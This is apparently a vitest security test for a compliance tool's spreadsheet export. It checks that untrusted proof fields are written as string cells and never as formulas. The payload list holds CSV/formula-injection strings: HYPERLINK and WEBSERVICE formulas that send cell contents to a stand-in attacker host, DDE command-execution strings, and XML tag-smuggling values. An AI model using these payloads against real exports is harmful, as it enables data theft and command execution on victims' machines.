import { describe, expect, it } from "vitest";
import type { Proof } from "../../src/proofs/proof.js";
import { readWorkbook, worksheetXml } from "@compliance-graph/test-kit";
import { writeWorkbook } from "./write-workbook.js";

/**
 * The attack: a customer (or anyone who can put text into a proof: an address, a comment, a
 * message, a transaction id) writes text that a spreadsheet evaluates when the compliance team
 * opens the export, to run commands through DDE or to send cell contents to an attacker's server
 * through HYPERLINK or WEBSERVICE. These are the openings OWASP lists for CSV/formula injection.
 * The export stops it by writing all text as string cells, which no spreadsheet evaluates.
 */
const payloads = [
  "=1+1",
  '=HYPERLINK("http://attacker.test/?leak="&A2,"Click for details")',
  '=WEBSERVICE("http://attacker.test/"&B2)',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "+cmd|' /C calc'!A0",
  "-1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\r\n=1+1",
  "=1+1\u0000",
  "<f>1+1</f>",
  "</v><f>1+1</f><v>",
];

function proofsCarrying(payload: string, index: number): Proof[] {
  const at = new Date(Date.UTC(2026, 0, 1, 0, 0, index));
  const base = { createdAt: at, updatedAt: at, dueAt: null, asset: "DTI4H95J0R2X", status: "VERIFIED" as const };
  return [
    {
      ...base,
      __typename: "AopdSignatureProof",
      id: payload,
      address: payload,
      customerId: payload,
      comment: payload,
      format: null,
      message: payload,
      signature: payload,
      xpub: payload,
    },
    {
      ...base,
      __typename: "AopdSatoshiProof",
      id: payload,
      address: payload,
      customerId: payload,
      comment: payload,
      amount: payload,
      senderAddress: payload,
      depositAddress: payload,
      txId: payload,
      assessment: null,
      blockHeight: null,
      confirmations: null,
      failureReason: payload,
      // What the chain check found comes from a chain anyone can write to.
      blockHash: payload,
      amountReceived: payload,
      amountReceivedUnits: payload,
      transactionSenders: [payload],
      // The decider's free texts and names come from tokens and officers: as untrusted as the rest.
      decision: {
        id: payload,
        action: "DECIDED",
        decidedAt: at,
        outcome: "FAILED",
        reason: "OTHER",
        reasonText: payload,
        comment: payload,
        decider: { subject: payload, client: payload, username: payload, system: false },
      },
    },
  ];
}

describe("formula injection through proof text", () => {
  it("writes every text that a spreadsheet would take for a formula as a string cell, read back by SheetJS", async () => {
    const file = await writeWorkbook(payloads.map((payload, index) => proofsCarrying(payload, index)));

    const [sheet] = readWorkbook(file);
    const rows = sheet!.rows.slice(1);
    expect(rows).toHaveLength(payloads.length * 2);
    let carried = 0;
    rows.forEach((row, r) => {
      // NUL cannot be written in XML at all; it reads as U+FFFD (docs/xlsx-export.md).
      const payload = (payloads[Math.floor(r / 2)] as string).replace("\u0000", "\ufffd");
      for (const cell of row) {
        if (cell === null) continue;
        // No reader may find a formula, and every cell that holds the text holds it as a string.
        expect(cell.f).toBeUndefined();
        if (cell.t !== "s" || cell.v !== payload) continue;
        carried += 1;
      }
    });
    // id, customer, address, comment, message, signature, xpub; id, customer, address, comment, amount, sender, deposit, tx id,
    // decided by, decider subject, decider client, decision reason text, decision comment; block hash, amount received (both),
    // transaction senders, chain check failure.
    expect(carried).toBe(payloads.length * 25);

    // Below the reader: no `<f>` element in any worksheet, and every cell is a constant: an inline
    // string, or a date number (the only cells without a type).
    for (const xml of worksheetXml(file)) {
      expect(xml).not.toMatch(/<f[\s>]/);
      const types = new Set([...xml.matchAll(/<c r="[A-Z]+\d+"(?: s="\d+")?( t="[a-zA-Z]+")?/g)].map((cell) => cell[1] ?? "number"));
      expect([...types].sort()).toEqual([' t="inlineStr"', "number"]);
    }
  });
});
